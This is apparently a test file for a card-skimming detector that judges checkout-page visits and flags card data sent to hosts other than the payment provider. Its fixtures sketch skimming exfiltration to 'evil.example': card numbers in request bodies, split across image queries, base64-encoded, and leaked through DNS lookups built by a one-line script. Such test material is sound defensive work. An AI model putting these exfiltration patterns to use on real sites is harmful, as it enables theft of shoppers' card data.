import { createHash } from 'node:crypto';
import { describe, expect, test } from 'vitest';
import { seededRandom } from '../../platform/random/seeded.ts';
import type { ScriptFacts } from './attribute.ts';
import { makeCanary } from './canary.ts';
import { judgeVisit, type RequestFacts, type SiteFacts, type VisitFacts } from './judge-visit.ts';
import { finish } from './take-steps.ts';

const canary = makeCanary(seededRandom('judge'), { brand: 'jcb', year: 2026 });
const SHOP = 'https://shop.example';
const PAGE = `${SHOP}/checkout`;
const site: SiteFacts = { origin: SHOP, destinations: ['pay.example', '*.psp.example'], incompleteBefore: 0 };

const bytes = (text: string) => new TextEncoder().encode(text);
const card = bytes(JSON.stringify({ n: canary.number, c: canary.securityCode }));

const request = (changes: Partial<RequestFacts>): RequestFacts => ({
  url: 'https://evil.example/c',
  kind: 'fetch',
  headers: {},
  body: card,
  bodyIncomplete: false,
  frameUrl: PAGE,
  step: 3,
  stack: [],
  refused: false,
  ...changes,
});

const script = (url: string, source: string, more: Partial<ScriptFacts> = {}): ScriptFacts => ({
  url,
  inline: false,
  frameUrl: PAGE,
  source,
  sha256: createHash('sha256').update(source).digest('hex'),
  startLine: 0,
  startColumn: 0,
  ...more,
});
const inline = (source: string, startLine: number) => script(PAGE, source, { inline: true, startLine, startColumn: 8 });

const visit = (requests: readonly RequestFacts[], scripts: readonly ScriptFacts[] = []): VisitFacts => ({
  end: { kind: 'completed' },
  requests,
  scripts,
});
const findings = (facts: VisitFacts, about = site) => finish(judgeVisit(facts, about, canary)).findings;

describe('where card data may go', () => {
  test.each([
    ['the payment provider', 'https://pay.example/tokens'],
    ['a host below a destination', 'https://api.psp.example/tokens'],
  ])('%s: no finding', (_name, url) => {
    expect(findings(visit([request({ url })]))).toEqual([]);
  });

  test.each([
    ['another host', 'https://evil.example/c', 'evil.example'],
    ['a host that ends like the provider', 'https://notpay.example/c', 'notpay.example'],
    ['the parent of a destination', 'https://psp.example/c', 'psp.example'],
    ['a web socket', 'wss://evil.example/c', 'evil.example'],
  ])('%s: critical', (_name, url, destination) => {
    expect(findings(visit([request({ url })]))).toMatchObject([
      { kind: 'card-data-sent-elsewhere', severity: 'critical', destination, fields: ['number', 'securityCode'] },
    ]);
  });

  test('the merchant itself, which declared it never gets a number: high, even where it is named a destination', () => {
    const found = findings(visit([request({ url: `${SHOP}/log` })]), { ...site, destinations: ['shop.example'] });
    expect(found).toMatchObject([
      { kind: 'card-data-reaches-merchant', severity: 'high', destination: 'shop.example' },
    ]);
  });

  test('name and address are no card data, and a data: address goes nowhere', () => {
    const person = request({ body: bytes(`${canary.email} ${canary.holder}`) });
    expect(findings(visit([person, request({ url: `data:text/plain,${canary.number}` })]))).toEqual([]);
  });
});

describe('one finding for each sender and destination', () => {
  const skimmer = script(`${SHOP}/app.js?v=1`, 'skim()');
  const stack = [{ url: skimmer.url, line: 4, column: 2 }];

  test('with all the fields of all its requests', () => {
    const expiry = bytes(`${canary.number} ${canary.expiryMonth}/${canary.expiryYear}`);
    const found = findings(visit([request({ stack }), request({ stack, body: expiry })], [skimmer]));
    expect(found).toMatchObject([
      {
        sender: { kind: 'script', url: skimmer.url, inline: false, sha256: skimmer.sha256 },
        fields: ['number', 'expiry', 'securityCode'],
        channel: 'body',
        encoding: [],
        step: 3,
      },
    ]);
  });

  test('and one more for each other destination or script', () => {
    const other = script(`${SHOP}/other.js`, 'skim too');
    const requests = [
      request({ stack }),
      request({ stack, url: 'https://worse.example/' }),
      request({ stack: [{ url: other.url, line: 0, column: 0 }] }),
    ];
    expect(new Set(findings(visit(requests, [skimmer, other])).map(({ key }) => key)).size).toBe(3);
  });

  test('its key stays while the query of the script changes', () => {
    const [first] = findings(visit([request({ stack })], [skimmer]));
    const later = script(`${SHOP}/app.js?v=2`, 'skim()');
    const [second] = findings(visit([request({ stack: [{ url: later.url, line: 9, column: 0 }] })], [later]));
    expect(second?.key).toBe(first?.key);
  });
});

describe('who sent it', () => {
  test('the innermost script that is no library', () => {
    const jquery = script('https://cdn.example/jquery-3.7.1.min.js', '/* jquery */');
    const own = script(`${SHOP}/own.js`, '$.post()');
    const stack = [jquery, own].map(({ url }) => ({ url, line: 1, column: 1 }));
    expect(findings(visit([request({ stack })], [jquery, own]))[0]?.sender).toMatchObject({ url: own.url });
    expect(findings(visit([request({ stack: stack.slice(0, 1) })], [jquery]))[0]?.sender).toMatchObject({
      url: jquery.url,
    });
  });

  test('of several inline scripts the one that stands at the place', () => {
    const scripts = [inline('a()\nb()', 10), inline('skim()\nsend()', 20), inline('c()', 30)];
    const stack = [{ url: PAGE, line: 21, column: 3 }];
    const [found] = findings(visit([request({ stack })], scripts));
    expect(found?.sender).toEqual({ kind: 'script', url: PAGE, inline: true, sha256: scripts[1]?.sha256, by: 'stack' });
  });

  test('where only the network knew of it, the one script that names the destination', () => {
    const naming = inline("send('//evil.example/c')", 5);
    const others = [inline('a()', 1), script(`${SHOP}/app.js`, 'b()')];
    const image = request({ kind: 'image' });
    expect(findings(visit([image], [...others, naming]))[0]?.sender).toMatchObject({
      by: 'mention',
      sha256: naming.sha256,
    });
    const second = script(`${SHOP}/more.js`, "send('//evil.example/d')");
    expect(findings(visit([image], [naming, second]))[0]?.sender).toEqual({ kind: 'document', url: PAGE });
  });

  test('the document, where a form was posted without a script', () => {
    const [found] = findings(visit([request({ kind: 'document', frameUrl: PAGE })]));
    expect(found?.sender).toEqual({ kind: 'document', url: PAGE });
  });

  test('each host of a chain of redirects is a destination of its own', () => {
    const url = `https://pay.example/r?n=${canary.number}`;
    const hop = `https://evil.example/r?n=${canary.number}`;
    expect(findings(visit([request({ url }), request({ url: hop })]))).toMatchObject([{ destination: 'evil.example' }]);
  });
});

describe('a visit that could not see everything is not a visit without findings', () => {
  const ended = (incompleteBefore: number) =>
    findings(
      { end: { kind: 'step-failed', step: 2, code: 'not-found' }, requests: [], scripts: [] },
      { ...site, incompleteBefore },
    );

  test('medium at first, high at the third in a row, which is another finding', () => {
    expect(ended(0)).toMatchObject([{ kind: 'visit-incomplete', severity: 'medium', code: 'not-found', step: 2 }]);
    expect(ended(1)[0]?.key).toBe(ended(0)[0]?.key);
    expect(ended(2)).toMatchObject([{ severity: 'high' }]);
    expect(ended(2)[0]?.key).not.toBe(ended(0)[0]?.key);
  });

  test('a body that could not be read counts, unless it went to the payment provider', () => {
    const unread = { body: undefined, bodyIncomplete: true };
    expect(findings(visit([request(unread)]))).toMatchObject([
      { kind: 'visit-incomplete', code: 'body-not-readable', destination: 'evil.example' },
    ]);
    expect(findings(visit([request({ ...unread, url: 'https://pay.example/' })]))).toEqual([]);
  });
});

test('destinations are listed with what they were sent', () => {
  const requests = [
    request({ url: `${SHOP}/p`, body: bytes(canary.email) }),
    request({ url: 'https://pay.example/t' }),
    request({ url: 'https://pay.example/w', kind: 'script', body: undefined }),
    request({ url: 'https://stats.example/s', body: undefined, kind: 'image' }),
  ];
  expect(finish(judgeVisit(visit(requests), site, canary)).destinations).toEqual([
    {
      host: 'pay.example',
      kinds: ['fetch', 'script'],
      requests: 2,
      own: false,
      allowed: true,
      fields: ['number', 'securityCode'],
    },
    { host: 'shop.example', kinds: ['fetch'], requests: 1, own: true, allowed: false, fields: ['email'] },
    { host: 'stats.example', kinds: ['image'], requests: 1, own: false, allowed: false, fields: [] },
  ]);
});

test('a flood beyond what a visit is searched for is said, and hides neither what is small nor what stands as it is', () => {
  const noise = Array.from({ length: 60 }, (_, at) =>
    request({ url: `https://noise.example/${at}`, step: 0, body: bytes(`${at} ${'lorem ipsum '.repeat(80_000)}`) }),
  );
  const hidden = request({ body: bytes(Buffer.from(card).toString('base64')) });
  const plain = request({
    url: 'https://plain.example/',
    step: 0,
    body: bytes(`${'lorem ipsum '.repeat(200_000)}${canary.number}`),
  });
  const facts = { ...visit([...noise, hidden, plain]), cardTypedAt: 1 };
  expect(findings(facts).map(({ kind, destination, code }) => [kind, destination ?? code])).toEqual([
    ['card-data-sent-elsewhere', 'evil.example'],
    ['card-data-sent-elsewhere', 'plain.example'],
    ['visit-incomplete', expect.any(String)],
  ]);
  expect(findings(facts).at(-1)?.code).toBe('search-limit');
});

describe('what no single request shows', () => {
  const digitsOf = (at: number) => canary.number.slice(at * 4, at * 4 + 4);

  test('a name that was looked up carries the number: its parent is the destination, the naming script the sender', () => {
    const naming = script(`${SHOP}/app.js`, "link.href='//'+n+'.t.evil.example'");
    const names = [
      { name: `n${canary.number}.t.evil.example`, step: 3 },
      { name: 'fonts.example', step: 0 },
      { name: 'shop.example', step: 0 },
    ];
    const facts = { ...visit([request({ url: SHOP, body: undefined })], [naming]), names };
    const { findings: found, destinations } = finish(judgeVisit(facts, site, canary));
    expect(found).toMatchObject([
      {
        kind: 'card-data-sent-elsewhere',
        destination: '*.evil.example',
        channel: 'name',
        sender: { kind: 'script', by: 'mention', url: naming.url },
      },
    ]);
    expect(JSON.stringify({ found: found.map(({ key }) => key), destinations })).not.toContain(canary.number);
    expect(destinations.find(({ host }) => host === 'fonts.example')).toMatchObject({ kinds: ['name'], requests: 1 });
  });

  test('cut over requests: one finding, and each of them is withheld', () => {
    const requests = [2, 0, 3, 1].map((at) =>
      request({ url: `https://evil.example/p?d=${digitsOf(at)}`, kind: 'image', body: undefined }),
    );
    const judged = finish(judgeVisit(visit(requests), site, canary));
    expect(judged.findings).toMatchObject([{ destination: 'evil.example', channel: 'query', encoding: ['split'] }]);
    expect(judged.fragments.size).toBe(4);
  });

  test('the provider may get it in pieces, as one frame for each field does', () => {
    const requests = [0, 1, 2, 3].map((at) => request({ url: 'https://pay.example/t', body: bytes(digitsOf(at)) }));
    expect(findings(visit(requests))).toEqual([]);
  });

  test('a record of the network that is not whole is no clean visit', () => {
    expect(findings({ ...visit([]), logCut: true })).toMatchObject([{ kind: 'visit-incomplete', code: 'log-cut' }]);
    expect(findings({ ...visit([]), logCut: false })).toEqual([]);
  });
});
